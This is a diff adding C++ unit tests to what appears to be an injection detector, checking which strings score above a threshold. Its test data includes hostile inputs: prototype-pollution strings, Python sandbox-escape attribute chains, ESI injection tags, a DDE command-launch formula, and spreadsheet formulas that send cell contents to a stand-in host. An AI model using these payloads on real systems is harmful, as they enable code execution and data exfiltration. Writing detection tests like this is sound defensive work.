@@ -119,6 +119,16 @@ TEST(Code, NamesOfPrototypes) {
        {"__proto__", "__proto__[a]", "a.__proto__.b", "constructor.prototype.x", "a[constructor][prototype]"})
     EXPECT_GE(of(name, true), kThreshold) << name;
   EXPECT_GE(of(R"({"__proto__": {"admin": true}})", false), kThreshold);
+  for (const std::string_view name : {"__globals__", "__subclasses__", "Object.prototype.admin"})
+    EXPECT_GE(of(name, true), kThreshold) << name;
+  EXPECT_LT(of("__class__", true), kThreshold);
+  EXPECT_LT(of("__name__", true), kThreshold);
+  for (const std::string_view text :
+       {"__pro__proto__to__.a", "constconstructorructor[a]", "b.constructor.prototype.c", "Object.prototype.a=1"})
+    EXPECT_GE(of(text, false), kThreshold) << text;
+  for (const std::string_view text :
+       {"see b.constructor.prototype.c", "Object.prototype.toString.call(a)", "constructors", "Object.prototype.a==1"})
+    EXPECT_LT(of(text, false), kThreshold) << text;
   for (const std::string_view text :
        {"the __proto__ property", "constructor", "a constructor. prototype", "prototype.js"})
     EXPECT_LT(of(text, false), kThreshold) << text;
@@ -173,6 +183,26 @@ TEST(Code, LinesOfSource) {
 TEST(Code, EdgeSideIncludes) {
   EXPECT_GE(points("<!--esi $(HTTP_COOKIE)-->"), kThreshold);
   EXPECT_LT(points("<!--a comment-->"), kThreshold);
+  for (const std::string_view text :
+       {"<esi:debug/>", "<esi:vars>$(A)</esi:vars>", "a<esi:try >", "<ESI:assign name=\"a\"/>"})
+    EXPECT_GE(points(text), kThreshold) << text;
+  for (const std::string_view text : {"<esi:things>", "esi:include", "<esi:try", "<desi:try>"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+TEST(Code, FormulasThatStartOrFetch) {
+  for (const std::string_view text :
+       {"=ms|'/x y'!B1", "@SUM(2)*ms|' /x y'!B1", "=WEBSERVICE(\"https://x.example/\"&B1)", "=DDE(\"ms\";\"y\";\"z\")",
+        "=IF(B1,IMPORTXML(CONCAT(\"https://x.example/\",B1),\"//a\"))",
+        "=HYPERLINK(\"https://x.example/?a=\"&B1,\"b\")"})
+    EXPECT_GE(points(text), kThreshold) << text;
+  for (const std::string_view text :
+       {"=SUM(A1:A9)", "=HYPERLINK(\"https://a.example\",\"a\")", "=A1|B1", "ms|'x'!B1 is a reference", "-call (me)",
+        "=IF(A1=\"x\";\"it's|'so'\";B1)", "@webservice (new)"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+TEST(Code, WorkingsOfPythonByNames) {
+  EXPECT_GE(points("a.__init__.__globals__"), kThreshold);
+  EXPECT_LT(points("super().__init__(); super().__init__()"), kThreshold);
 }
 
 }  // namespace
